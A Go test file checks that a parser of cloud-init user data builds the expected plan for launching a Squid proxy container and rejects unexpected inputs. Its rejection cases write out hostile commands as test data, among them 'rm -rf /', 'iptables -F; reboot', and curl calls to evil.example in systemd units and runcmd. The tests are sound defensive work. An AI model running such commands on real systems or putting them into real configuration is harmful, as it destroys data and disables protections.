package boot

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/shoal-dev/shoal/agent/internal/squid"
)

var update = flag.Bool("update", false, "write the golden plans anew")

// plain is user data as the gcp provider renders it, with nothing of a user's.
func plain(t *testing.T) string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join("testdata", "plain.userdata"))
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// archive joins documents as MIME parts, the later ones with a Merge-Type.
func archive(merge string, documents ...string) string {
	var b bytes.Buffer
	b.WriteString("Content-Type: multipart/mixed; boundary=\"bound-1\"\r\nMIME-Version: 1.0\r\n\r\n")
	for n, d := range documents {
		b.WriteString("--bound-1\r\nContent-Type: text/cloud-config; charset=\"utf-8\"\r\n")
		fmt.Fprintf(&b, "Content-Disposition: attachment; filename=\"part-%d.yaml\"\r\n", n)
		if n > 0 && merge != "" {
			fmt.Fprintf(&b, "Merge-Type: %s\r\n", merge)
		}
		b.WriteString("Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(d)) + "\r\n")
	}
	b.WriteString("--bound-1--\r\n")
	return b.String()
}

// TestPlans compares plans with golden ones: read the difference before you write them anew with -update.
func TestPlans(t *testing.T) {
	const theirs = "#cloud-config\nwrite_files:\n  - path: /etc/shoal/squid/extra.conf\n    permissions: \"0640\"\n    content: hello\n  - path: /var/lib/theirs\n    content: unseen\n"
	for name, userData := range map[string]string{
		"plain":    plain(t),
		"archived": archive(joinLists, plain(t)),
		"joined":   archive(joinLists, plain(t), theirs),
	} {
		t.Run(name, func(t *testing.T) {
			p, err := Parse(userData)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.MarshalIndent(p, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, '\n')
			golden := filepath.Join("testdata", name+".plan.json")
			if *update {
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestProvidersUserData boots what the gcp provider renders today, from its own golden files.
func TestProvidersUserData(t *testing.T) {
	for _, name := range []string{"user-data.yaml", "user-data.mime"} {
		text, err := os.ReadFile(filepath.Join("..", "..", "testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		got, err := Parse(string(text))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if len(got.Files) != 1 || got.Files[0].Path != "/etc/shoal/squid/squid.conf" {
			t.Errorf("%s: the container sees the files %v", name, got.Files)
		}
		got.Files = nil
		want := Plan{
			Image: "registry.example/shoal-proxy:1", Entrypoint: "/usr/sbin/squid", Command: []string{"-N", "-f", "/etc/shoal/squid/squid.conf"},
			User: "13:13", ReadOnly: true, CapDrop: []string{"ALL"}, SecurityOpt: []string{"no-new-privileges"},
			Ulimits: []string{"nofile=32768:32768"}, Restart: true,
			Mounts:  []Mount{{"/etc/shoal/squid", "/etc/shoal/squid"}, {"/run/shoal/keys", squid.DefaultKeysDir}},
			Watches: []Watch{{"shoal-keys-hub", "/run/shoal/keys/hub.json"}, {"shoal-keys-agent", "/run/shoal/keys/agent.json"}},
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
}

// TestRefuses has user data that the fake must not half understand.
func TestRefuses(t *testing.T) {
	edit := func(pairs ...string) func(string) string {
		return func(text string) string { return strings.NewReplacer(pairs...).Replace(text) }
	}
	const theirs = "#cloud-config\nwrite_files:\n  - path: /var/lib/theirs\n    content: x\n"
	for name, tt := range map[string]struct {
		change func(string) string
		names  string
	}{
		"Nothing":          {func(string) string { return "" }, "user-data"},
		"Script":           {func(string) string { return "#!/bin/sh\necho hello\n" }, "user-data"},
		"NoYAML":           {func(string) string { return "#cloud-config\n\t{" }, "yaml"},
		"TwoDocuments":     {func(s string) string { return s + "\n---\nwrite_files: []\n" }, "more than one"},
		"UnknownKey":       {edit("runcmd:", "packages: [squid]\nruncmd:"), "packages"},
		"UnknownFileKey":   {edit("permissions:", "append: true\n    permissions:"), "append"},
		"RelativePath":     {edit("path: /etc/shoal/squid/squid.conf", "path: squid.conf"), "squid.conf"},
		"ClimbingPath":     {edit("path: /etc/shoal/squid/squid.conf", "path: /etc/../../squid.conf"), "/etc/../../squid.conf"},
		"Mode":             {edit(`"0644"`, `"rw"`), "rw"},
		"ShellCommand":     {edit("[systemctl, daemon-reload]", "iptables -F; reboot"), "iptables -F; reboot"},
		"OtherCommand":     {edit("[systemctl, daemon-reload]", "[reboot]"), "reboot"},
		"StartsNothing":    {edit("[systemctl, start,", "[systemctl, daemon-reload] #"), "starts no unit"},
		"StartsUnknown":    {edit("shoal-guard.service, shoal-keys@hub.service", "shoal-shield.service"), "shoal-shield.service"},
		"RequiresUnknown":  {edit("Requires=docker.service shoal-guard.service", "Requires=shoal-shield.service"), "shoal-shield.service"},
		"Directive":        {edit("Type=oneshot", "Environment=A=b"), "Environment=A=b"},
		"Quotes":           {edit("/etc/shoal/guard.sh 3128 13", "\"/etc/shoal/guard.sh\" 3128 13"), "quotes"},
		"Specifier":        {edit("Description=Firewall of the Shoal proxy", "Description=%n"), "%n"},
		"OtherScript":      {edit("/bin/sh /etc/shoal/guard.sh", "/bin/sh /etc/shoal/squid/squid.conf"), "squid.conf"},
		"MissingScript":    {edit("/bin/sh /etc/shoal/guard.sh", "/bin/sh /etc/shoal/wall.sh"), "/etc/shoal/wall.sh"},
		"OtherProgram":     {edit("ExecStart=/bin/sh /etc/shoal/guard.sh 3128 13", "ExecStart=/usr/bin/curl evil.example"), "curl"},
		"Preparation":      {edit("ExecStartPre=/bin/mkdir -p /run/shoal/keys", "ExecStartPre=/bin/rm -rf /"), "rm -rf"},
		"Stop":             {edit("ExecStop=/usr/bin/docker stop", "ExecStop=/usr/bin/docker kill"), "docker kill"},
		"KeysUnseen":       {edit("shoal-keys-%i /run/shoal/keys/%i.json", "shoal-keys-%i /run/keys/%i.json"), "/run/keys/hub.json"},
		"DockerCommand":    {edit("docker run --rm", "docker exec"), "docker run"},
		"DockerFlag":       {edit("--read-only", "--privileged"), "--privileged"},
		"BridgeNetwork":    {edit("--network=host", "--network=bridge"), "--network=host"},
		"WritableVolume":   {edit("/etc/shoal/keys:ro", "/etc/shoal/keys"), "/etc/shoal/keys"},
		"NoImage":          {edit(" registry.example/shoal-proxy:v1 -N -f /etc/shoal/squid/squid.conf", ""), "image"},
		"NoProxy":          {edit(", shoal-proxy.service]", "]"), "no unit"},
		"ReplacedByTheirs": {func(s string) string { return archive("", s, theirs) }, "nothing writes it"},
		"OtherMerge":       {func(s string) string { return archive("list(prepend)", s, theirs) }, "list(prepend)"},
		"TheirCommand":     {func(s string) string { return archive(joinLists, s, "#cloud-config\nruncmd: [[curl, evil.example]]\n") }, "curl"},
		"PartOfAnotherKind": {func(s string) string {
			return strings.Replace(archive("", s), "text/cloud-config", "text/x-shellscript", 1)
		}, "x-shellscript"},
		"PartEncodedOtherly": {func(s string) string { return strings.Replace(archive("", s), "base64", "quoted-printable", 1) }, "quoted-printable"},
		"CutArchive":         {func(s string) string { a := archive("", s); return a[:len(a)-20] }, "MIME"},
	} {
		t.Run(name, func(t *testing.T) {
			text := tt.change(plain(t))
			if text == plain(t) {
				t.Fatal("the edit changes nothing")
			}
			p, err := Parse(text)
			if err == nil {
				t.Fatalf("taken: %+v", p)
			}
			if !strings.Contains(err.Error(), tt.names) {
				t.Errorf("the error does not name %q: %v", tt.names, err)
			}
		})
	}
}
